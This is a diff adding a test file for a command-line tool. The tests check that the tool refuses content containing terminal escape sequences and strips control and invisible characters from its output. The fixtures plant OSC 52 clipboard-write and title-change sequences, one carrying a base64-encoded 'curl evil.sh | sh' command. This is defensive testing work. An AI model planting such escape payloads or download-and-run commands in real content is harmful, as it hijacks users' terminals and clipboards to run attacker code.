@@ -1,0 +1,86 @@
+import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { terminalText } from '../../src/cli/output.js';
+import { root, run } from './run-cli.js';
+
+/** ESC, BEL, every other C0 control but the line break, DEL and the C1 controls. */
+const CONTROL_BYTES = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/;
+/** Bidi overrides and marks, zero-width characters and the byte-order mark. */
+const INVISIBLE = /[\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/;
+
+function expectClean(result: { stdout: string; stderr: string }): void {
+  expect(result.stdout).not.toMatch(CONTROL_BYTES);
+  expect(result.stderr).not.toMatch(CONTROL_BYTES);
+  expect(result.stdout).not.toMatch(INVISIBLE);
+  expect(result.stderr).not.toMatch(INVISIBLE);
+  expect(result.stderr).not.toMatch(/\n\s+at /);
+}
+
+/** A copy of the shipped content with one line of one file replaced (the report's c-esc and c-url). */
+function hostileContent(file: string, from: string, to: string): string {
+  const dir = join(mkdtempSync(join(tmpdir(), 'pd-hostile-')), 'content');
+  cpSync(join(root, 'content'), dir, { recursive: true });
+  const path = join(dir, file);
+  const text = readFileSync(path, 'utf8');
+  if (!text.includes(from)) throw new Error(`not found in ${file}: ${from}`);
+  writeFileSync(path, text.replace(from, to));
+  return dir;
+}
+
+const cEsc = () =>
+  hostileContent('tree/start.yaml', '    title: What are you seeing?\n', '    title: "What are you seeing?\\e]52;c;Y3VybCBldmlsLnNoIHwgc2gK\\a\\e]0;PWNED\\a"\n');
+const cUrl = () =>
+  hostileContent('links.yaml', '    url: https://learn.microsoft.com/en-us/entra/identity/saas-apps/tutorial-list\n', '    url: "https://learn.microsoft.com/x\\a\\e]52;c;ZXZpbAo=\\a"\n');
+
+describe('content with escape sequences (H4, repro c-esc and c-url)', () => {
+  it('validate names the field and the character, and prints none of it', () => {
+    const dir = cEsc();
+    const result = run(['validate', dir], { content: false });
+    expect(result.stdout).toContain(
+      'tree/start.yaml:7:12: nodes.start.title: holds an escape character (U+001B) at character 21: control and invisible characters are not allowed in text: remove it',
+    );
+    expect(result.stdout.trim().split('\n').at(-1)).toBe(`1 problem in ${dir}`);
+    expect(result.status).toBe(1);
+    expectClean(result);
+  });
+
+  it('--content refuses the folder before any text reaches the terminal', () => {
+    const result = run(['--content', cEsc(), 'search', 'seeing'], { content: false });
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toContain('nodes.start.title: holds an escape character (U+001B)');
+    expect(result.status).toBe(1);
+    expectClean(result);
+  });
+
+  it('a link address with BEL and OSC 52 is refused by validate and by --content', () => {
+    const dir = cUrl();
+    const validate = run(['validate', dir], { content: false });
+    expect(validate.stdout).toContain('links.yaml:7:10: links.saas-tutorial-list.url: holds a bell (U+0007) at character 30');
+    expect(validate.status).toBe(1);
+    expectClean(validate);
+    const explain = run(['--content', dir, 'explain', 'InsufficientRights'], { content: false });
+    expect(explain.status).toBe(1);
+    expect(explain.stdout).toBe('');
+    expectClean(explain);
+  });
+});
+
+describe('the one writer of the command line', () => {
+  it('cleans every line and keeps the lines', () => {
+    expect(terminalText('a\u001B]0;x\u0007b\nc\td\u202E\n\u009B2Je')).toBe('ab\nc d\ne');
+  });
+
+  it("keeps the tool's own bold and dim only when asked, and nothing else", () => {
+    const heading = '\u001B[1mTitle \u001B]52;c;ZXZpbA==\u0007\u001B[31mred\u001B[22m';
+    expect(terminalText(heading, true)).toBe('\u001B[1mTitle red\u001B[22m');
+    expect(terminalText(heading)).toBe('Title red');
+  });
+
+  it('leaves JSON valid: raw C1 and format characters go, the escapes JSON writes for C0 are plain text', () => {
+    const json = JSON.stringify({ query: 'a\u009B2Jb\u202E\u009D0;x\u0007', list: ['\u001B[2J'] }, null, 2);
+    expect(json).not.toMatch(/[\u0000-\u0009\u000B-\u001F]/);
+    expect(JSON.parse(terminalText(json))).toEqual({ query: 'ab0;x\u0007', list: ['\u001B[2J'] });
+  });
+});
